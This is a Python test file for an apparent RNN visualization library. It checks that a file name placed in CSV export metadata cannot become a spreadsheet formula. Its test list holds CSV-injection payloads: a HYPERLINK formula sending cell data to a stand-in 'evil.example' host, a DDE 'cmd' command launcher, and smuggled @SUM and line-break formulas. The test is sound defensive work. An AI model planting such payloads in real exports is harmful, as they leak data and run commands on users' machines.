"""An uploaded file's name travels into the exports: in the CSV it stays one inert comment cell."""
import csv
import io

import numpy as np
import pytest

from rnnviz import ModelSpec, build_model, inputs, trace
from rnnviz.files import export

NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"click"),=1+1', "+cmd|' /C calc'!A0", "-2+3;@SUM(A1:A9)\tx",
         "model, v2; final\r\n=1", "@import", "plain name"]


@pytest.mark.parametrize("name", NAMES)
def test_a_file_name_cannot_become_a_spreadsheet_formula(name):
    tr = trace(build_model(ModelSpec(cell="gru", hidden_size=3, input_size=2)), inputs.noise(5, 2, seed=0))
    data = export.trace_to_csv(tr, {"source": name})
    text = data.decode()
    comments = [line for line in text.splitlines() if line.startswith("#")]
    for delimiter in (",", ";", "\t"):   # however a spreadsheet splits the lines, every comment line is one cell
        for row in csv.reader(io.StringIO("\n".join(comments)), delimiter=delimiter):
            assert len(row) == 1 or all(not cell.lstrip().startswith(("=", "+", "-", "@")) for cell in row), row
            assert row[0].startswith("#")
            assert all(ch not in cell for cell in row[1:] for ch in "=+@|")
    assert export.read_csv_metadata(data)["source"] == name   # and the name reads back exactly
    body = np.loadtxt(io.BytesIO(data), delimiter=",", skiprows=len(comments) + 1)
    np.testing.assert_array_equal(body[:, 0], np.arange(5))
